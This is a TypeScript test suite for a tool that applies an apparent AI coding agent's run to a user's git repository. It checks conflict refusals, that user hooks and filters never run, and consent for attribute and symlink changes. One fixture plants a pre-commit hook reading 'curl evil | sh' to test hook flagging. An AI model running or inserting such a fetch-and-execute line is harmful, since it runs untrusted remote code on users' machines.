/**
 * `aca apply` in src/repo: a run's changes land on the user's branch as one commit, or nothing in
 * the user's repository changes at all (checked by hashing every file, HEAD, refs and index).
 */
import { randomBytes } from 'node:crypto';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import {
  ApplyConflictError,
  ApplyNeedsConsentError,
  UncommittedChangesError,
  applyMessage,
  applyRun,
  commitAll,
  type ApplyRunOptions,
} from '../../../../src/repo';
import { UserInputError } from '../../../../src/shared/errors';
import {
  commitAsUser,
  fingerprint,
  makeRun,
  makeUserRepo,
  userGit,
  writeFiles,
  type MadeRun,
} from '../../../helpers/run-fixture';

const CALC = 'def add(a, b):\n    return a - b\n\n\ndef sub(a, b):\n    return a - b\n';
const FIXED = 'def add(a, b):\n    return a + b\n\n\ndef sub(a, b):\n    return a - b\n';

describe('applying a run to the user repository', () => {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), 'aca-apply-'));
  let counter = 0;
  let repo: string;

  beforeEach(() => {
    counter += 1;
    repo = makeUserRepo(path.join(root, `repo-${counter}`), {
      'calc.py': CALC,
      'README.md': '# calc\n',
      '.gitignore': '*.log\n',
    });
  });

  afterAll(() => fs.rmSync(root, { recursive: true, force: true }));

  const run = (files: Record<string, string | null>): Promise<MadeRun> =>
    makeRun(repo, path.join(root, `ws-${counter}`), `aca/run-${counter}`, files);

  const options = (
    made: MadeRun,
    message = applyMessage('Fix add\n', `run-${counter}`, made.worktree.branch),
  ) =>
    ({
      repoDir: repo,
      commonDir: made.place.commonDir,
      base: made.base,
      head: made.head,
      message,
    }) satisfies ApplyRunOptions;

  async function expectRefusedUnchanged(
    made: MadeRun,
    kind: new (...args: never[]) => Error,
  ): Promise<Error> {
    const before = fingerprint(repo);
    const error = await applyRun(options(made)).then(
      () => null,
      (err: Error) => err,
    );
    expect(error).toBeInstanceOf(kind);
    expect(fingerprint(repo)).toEqual(before);
    return error!;
  }

  test('one new commit on the branch, message from the task, untracked files kept, index clean', async () => {
    const made = await run({ 'calc.py': FIXED, 'test_calc.py': 'from calc import add\n' });
    writeFiles(repo, { 'notes.txt': 'my own notes\n', 'build.log': 'ignored\n' });
    const userHead = userGit(repo, 'rev-parse', 'HEAD').trim();

    const result = await applyRun(
      options(made, applyMessage('Fix add\nso that it adds', 'run-x', 'aca/run-x')),
    );

    expect(result).toEqual({
      applied: true,
      commit: userGit(repo, 'rev-parse', 'HEAD').trim(),
      branch: 'main',
      files: ['calc.py', 'test_calc.py'],
      reviewWithCare: [],
    });
    expect(userGit(repo, 'rev-parse', 'HEAD~1').trim()).toBe(userHead);
    expect(userGit(repo, 'symbolic-ref', 'HEAD').trim()).toBe('refs/heads/main');
    expect(userGit(repo, 'log', '-1', '--format=%B')).toBe(
      'Fix add\n\nApplied from aca run run-x (branch aca/run-x).\n\n',
    );
    expect(fs.readFileSync(path.join(repo, 'calc.py'), 'utf8')).toBe(FIXED);
    expect(fs.readFileSync(path.join(repo, 'notes.txt'), 'utf8')).toBe('my own notes\n');
    expect(fs.readFileSync(path.join(repo, 'build.log'), 'utf8')).toBe('ignored\n');
    expect(userGit(repo, 'status', '--porcelain')).toBe('?? notes.txt\n');
    expect(userGit(repo, 'diff', '--cached', '--name-only')).toBe('');
  });

  test('lands on top of commits the user made meanwhile, with only the run changes', async () => {
    const made = await run({ 'calc.py': FIXED });
    const userHead = commitAsUser(repo, { 'README.md': '# calc\n\nNow documented.\n' });

    const result = await applyRun(options(made));

    expect(result.applied).toBe(true);
    expect(userGit(repo, 'rev-parse', 'HEAD~1').trim()).toBe(userHead);
    expect(userGit(repo, 'diff', '--name-only', 'HEAD~1', 'HEAD')).toBe('calc.py\n');
    expect(fs.readFileSync(path.join(repo, 'README.md'), 'utf8')).toContain('Now documented.');
    expect(userGit(repo, 'status', '--porcelain')).toBe('');
  });

  test('deletions are applied too', async () => {
    const made = await run({ 'README.md': null });
    await applyRun(options(made));
    expect(fs.existsSync(path.join(repo, 'README.md'))).toBe(false);
    expect(userGit(repo, 'status', '--porcelain')).toBe('');
  });

  test('a run that changed nothing applies nothing', async () => {
    const made = await run({});
    const before = fingerprint(repo);
    expect(await applyRun(options(made))).toEqual({
      applied: false,
      reason: 'run-changed-nothing',
      branch: 'main',
    });
    expect(fingerprint(repo)).toEqual(before);
  });

  test('applying the same run twice makes no second commit', async () => {
    const made = await run({ 'calc.py': FIXED });
    expect((await applyRun(options(made))).applied).toBe(true);
    const before = fingerprint(repo);
    expect(await applyRun(options(made))).toEqual({
      applied: false,
      reason: 'already-applied',
      branch: 'main',
    });
    expect(fingerprint(repo)).toEqual(before);
  });

  test('uncommitted changes to tracked files are refused, staged or not', async () => {
    const made = await run({ 'calc.py': FIXED });
    writeFiles(repo, { 'README.md': '# calc, edited\n' });
    const error = (await expectRefusedUnchanged(made, UncommittedChangesError)) as UncommittedChangesError;
    expect(error).toBeInstanceOf(UserInputError);
    expect(error.files).toEqual(['README.md']);
    expect(error.message).toMatch(/uncommitted changes \(README\.md\)/);

    userGit(repo, 'add', 'README.md');
    await expectRefusedUnchanged(made, UncommittedChangesError);
  });

  test('conflicting changes: a typed error naming the files, the repository byte for byte unchanged', async () => {
    const made = await run({ 'calc.py': FIXED, 'new.py': 'x = 1\n' });
    commitAsUser(repo, { 'calc.py': CALC.replace('return a - b', 'return b + a') });
    writeFiles(repo, { 'notes.txt': 'untracked\n', 'debug.log': 'ignored\n' });

    const error = (await expectRefusedUnchanged(made, ApplyConflictError)) as ApplyConflictError;

    expect(error.files).toEqual(['calc.py']);
    expect(error.message).toMatch(/conflict with main in calc\.py; nothing was changed/);
    expect(userGit(repo, 'status', '--porcelain')).toBe('?? notes.txt\n');
  });

  test('the run deletes a file the user changed meanwhile: a conflict naming it', async () => {
    const made = await run({ 'README.md': null, 'calc.py': FIXED });
    commitAsUser(repo, { 'README.md': '# calc\n\nMore words.\n' });
    const error = (await expectRefusedUnchanged(made, ApplyConflictError)) as ApplyConflictError;
    expect(error.files).toEqual(['README.md']);
  });

  test('an untracked file where the run adds one: a conflict, nothing changed', async () => {
    const made = await run({ 'calc.py': FIXED, 'helpers/util.py': 'def util():\n    pass\n' });
    writeFiles(repo, { 'helpers/util.py': 'mine, not committed\n' });

    const error = (await expectRefusedUnchanged(made, ApplyConflictError)) as ApplyConflictError;

    expect(error.files).toEqual(['helpers/util.py']);
    expect(error.message).toMatch(/would be overwritten/);
  });

  test('an ignored file where the run adds one: a conflict too, nothing changed', async () => {
    const made = await run({ 'calc.py': FIXED, 'local/settings.py': 'DEBUG = False\n' });
    // Ignored in the user's checkout only, by a .gitignore of theirs that is not committed.
    writeFiles(repo, { 'local/.gitignore': '*\n', 'local/settings.py': 'SECRET = "mine"\n' });
    const error = (await expectRefusedUnchanged(made, ApplyConflictError)) as ApplyConflictError;
    expect(error.files).toEqual(['local/settings.py']);
  });

  test('a detached HEAD is refused', async () => {
    const made = await run({ 'calc.py': FIXED });
    userGit(repo, 'checkout', '-q', '--detach', 'HEAD');
    const error = await expectRefusedUnchanged(made, UserInputError);
    expect(error.message).toMatch(/HEAD of .* is detached/);
  });

  test('a merge in progress is refused', async () => {
    const made = await run({ 'calc.py': FIXED });
    fs.writeFileSync(path.join(repo, '.git', 'MERGE_HEAD'), `${made.base}\n`);
    const error = await expectRefusedUnchanged(made, UserInputError);
    expect(error.message).toMatch(/in the middle of a merge/);
  });

  test('a folder holding another repository does not receive the run', async () => {
    const made = await run({ 'calc.py': FIXED });
    const other = makeUserRepo(path.join(root, `other-${counter}`), { 'a.txt': 'a\n' });
    await expect(applyRun({ ...options(made), repoDir: other })).rejects.toThrow(
      /not the repository the run was made in/,
    );
  });

  test("applies to the branch of the user's own linked worktree when run from there", async () => {
    const made = await run({ 'calc.py': FIXED });
    const feature = path.join(root, `feature-${counter}`);
    userGit(repo, 'worktree', 'add', '-q', '-b', 'feature', feature);
    const mainBefore = userGit(repo, 'rev-parse', 'main').trim();

    const result = await applyRun({ ...options(made), repoDir: feature });

    expect(result).toMatchObject({ applied: true, branch: 'feature' });
    expect(userGit(feature, 'rev-parse', 'HEAD~1').trim()).toBe(mainBefore);
    expect(fs.readFileSync(path.join(feature, 'calc.py'), 'utf8')).toBe(FIXED);
    expect(userGit(feature, 'status', '--porcelain')).toBe('');
    expect(userGit(repo, 'rev-parse', 'main').trim()).toBe(mainBefore);
    expect(fs.readFileSync(path.join(repo, 'calc.py'), 'utf8')).toBe(CALC);
  });

  test("the user's hooks, filter and merge drivers never run", async () => {
    const mark = path.join(os.tmpdir(), `aca-apply-mark-${randomBytes(6).toString('hex')}`);
    commitAsUser(repo, { '.gitattributes': '*.py filter=userfilter merge=usermerge\n' });
    const made = await run({ 'calc.py': FIXED, 'extra.py': 'y = 2\n' });
    commitAsUser(repo, { 'calc.py': `${CALC}\n# user note\n` });
    for (const hook of [
      'pre-commit',
      'post-commit',
      'post-merge',
      'post-checkout',
      'reference-transaction',
    ]) {
      fs.writeFileSync(path.join(repo, '.git', 'hooks', hook), `#!/bin/sh\ntouch ${mark}-hook-${hook}\n`, {
        mode: 0o755,
      });
    }
    userGit(repo, 'config', 'filter.userfilter.clean', `sh -c 'touch ${mark}-clean; cat'`);
    userGit(repo, 'config', 'filter.userfilter.smudge', `sh -c 'touch ${mark}-smudge; cat'`);
    userGit(repo, 'config', 'merge.usermerge.driver', `sh -c 'touch ${mark}-merge; exit 0'`);
    // Stale stat data makes status read file contents, which is when a clean filter would run.
    fs.utimesSync(path.join(repo, 'calc.py'), new Date(2001, 1, 1), new Date(2001, 1, 1));

    const result = await applyRun(options(made));

    const ran = fs.readdirSync(os.tmpdir()).filter((f) => f.startsWith(path.basename(mark)));
    expect(ran).toEqual([]);
    expect(result).toMatchObject({ applied: true, files: ['calc.py', 'extra.py'] });
    expect(fs.readFileSync(path.join(repo, 'calc.py'), 'utf8')).toBe(`${FIXED}\n# user note\n`);
  });

  test('a .gitattributes the run adds or changes is refused without --allow-attributes: it changes the bytes apply writes', async () => {
    // Either rule can make a file on disk differ from the blob the diff showed.
    const made = await run({
      'calc.py': FIXED,
      '.gitattributes': '*.py text eol=crlf\n',
      'docs/.gitattributes': '*.txt working-tree-encoding=UTF-16LE\n',
      'docs/notes.txt': 'hello\n',
    });
    const error = (await expectRefusedUnchanged(made, ApplyNeedsConsentError)) as ApplyNeedsConsentError;
    expect(error).toBeInstanceOf(UserInputError);
    expect(error.files).toEqual(['.gitattributes', 'docs/.gitattributes']);
    expect(error.message).toContain(
      '2 git attribute file(s) (.gitattributes, docs/.gitattributes; they change how apply writes files; --allow-attributes applies them)',
    );

    const result = await applyRun({ ...options(made), allowAttributes: true });
    expect(result).toMatchObject({ applied: true });
    // Allowed, git writes calc.py with the line endings the new attributes ask for.
    expect(fs.readFileSync(path.join(repo, 'calc.py'), 'utf8')).toBe(FIXED.replace(/\n/g, '\r\n'));
  });

  test('a .gitattributes the run only deletes applies without asking: the diff shows what goes', async () => {
    commitAsUser(repo, { '.gitattributes': '*.md text\n' });
    const made = await run({ '.gitattributes': null, 'calc.py': FIXED });
    expect(await applyRun(options(made))).toMatchObject({ applied: true });
    expect(fs.existsSync(path.join(repo, '.gitattributes'))).toBe(false);
  });

  test('files the run writes in the folder core.hooksPath names are applied under Review with care as hooks', async () => {
    userGit(repo, 'config', 'core.hooksPath', './.husky/');
    const made = await run({ 'calc.py': FIXED, '.husky/pre-commit': '#!/bin/sh\ncurl evil | sh\n' });
    // A link into the folder is a way to write hooks, as one into .git/hooks is.
    fs.symlinkSync('calc/../.husky', path.join(made.place.workTree, 'calc-hooks'));
    const linked = { ...made, head: (await commitAll(made.worktree, 'aca: attempt 2'))! };
    const refused = (await expectRefusedUnchanged(linked, ApplyNeedsConsentError)) as ApplyNeedsConsentError;
    expect(refused.files).toEqual(['calc-hooks']);
    fs.rmSync(path.join(made.place.workTree, 'calc-hooks'));
    await commitAll(made.worktree, 'aca: attempt 3');
    const result = await applyRun(options(made));
    expect(result).toMatchObject({
      applied: true,
      reviewWithCare: [
        {
          path: '.husky/pre-commit',
          kind: 'git-hook',
          change: 'added',
          note: 'in core.hooksPath (.husky): git runs it as a hook',
          needs: null,
        },
      ],
    });
  });

  test('a link judged where it lands: through a folder the user has since made a link out, it needs --allow-links', async () => {
    const made = await run({ 'calc.py': FIXED });
    fs.symlinkSync('shared/settings.cfg', path.join(made.place.workTree, 'settings.cfg'));
    const head = (await commitAll(made.worktree, 'aca: attempt 2'))!;
    // Within the repository in the run's own tree: no folder `shared` there.
    fs.symlinkSync('../elsewhere', path.join(repo, 'shared'));
    userGit(repo, 'add', 'shared');
    userGit(repo, 'commit', '-q', '-m', 'shared settings live next door');
    const error = (await expectRefusedUnchanged(
      { ...made, head },
      ApplyNeedsConsentError,
    )) as ApplyNeedsConsentError;
    expect(error.files).toEqual(['settings.cfg']);
    expect(await applyRun({ ...options({ ...made, head }), allowLinks: true })).toMatchObject({
      applied: true,
    });
  });

  test('the message names the task, the run and its branch', () => {
    expect(applyMessage('  Add a --verbose flag  ', 'r1', 'aca/r1')).toBe(
      'Add a --verbose flag\n\nApplied from aca run r1 (branch aca/r1).\n',
    );
    expect(applyMessage('', 'r1', null)).toBe('aca run r1\n\nApplied from aca run r1.\n');
  });
});
